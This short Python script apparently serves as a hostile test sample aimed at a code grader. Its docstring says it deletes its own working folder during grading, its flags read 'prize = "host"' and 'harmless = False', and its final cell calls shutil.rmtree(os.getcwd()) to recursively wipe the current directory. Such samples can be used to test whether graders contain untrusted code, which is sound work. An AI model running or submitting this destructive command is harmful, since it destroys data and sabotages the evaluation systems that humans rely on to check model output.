"""Deletes its own working folder while it is being graded."""

prize = "host"
harmless = False

# %% last
import os
import shutil

shutil.rmtree(os.getcwd())
